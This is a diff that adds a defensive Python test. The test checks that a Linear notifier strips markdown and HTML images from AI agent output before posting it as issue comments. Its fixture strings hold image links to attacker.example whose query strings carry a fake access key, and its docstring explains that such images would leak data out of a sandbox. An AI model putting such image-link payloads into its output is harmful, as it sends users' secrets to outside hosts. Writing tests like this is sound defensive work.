@@ -119,3 +119,21 @@ def test_notifier_ignores_tasks_not_from_linear(linear):
     notifier = LinearNotifier(client=client(linear))
     assert notifier.notify(_notice("", "accepted", Stage.received)) == {}
     assert linear.requests == []
+
+
+def test_agent_text_cannot_embed_images_in_linear_comments(linear):
+    """An image in a comment is fetched by every viewer's client: an agent summary with
+    `![](https://attacker/?k=...)` would carry data out of the sandbox."""
+    notifier = LinearNotifier(client=client(linear))
+    issue = linear.add_issue(linear.add_team("SEC"), "Leak test")
+    change = ChangeRequest(number=8, branch="conveyor/cv-0123456789ab", head_sha="b" * 40, base="main",
+                           url="https://github.com/acme/demo/pull/8", files_changed=1, lines_added=1)
+    run = AgentRunResult(outcome=AgentOutcome.ok, summary="Done ![ok](https://attacker.example/p.png?k=AKIASECRET)",
+                         files_changed=1, lines_added=1)
+    notifier.notify(_notice(issue["id"], "review", Stage.awaiting_review, change=change, run=run,
+                            text='failed: <img src="https://attacker.example/?k=2"> ![a][r]',
+                            warnings=["![w](https://attacker.example/w)"]))
+    bodies = [c["body"] for c in linear.comments_on(issue)]
+    assert len(bodies) == 2 and any("attacker.example/p.png" in b for b in bodies)
+    for body in bodies:
+        assert "![" not in body and "<img" not in body.lower(), body
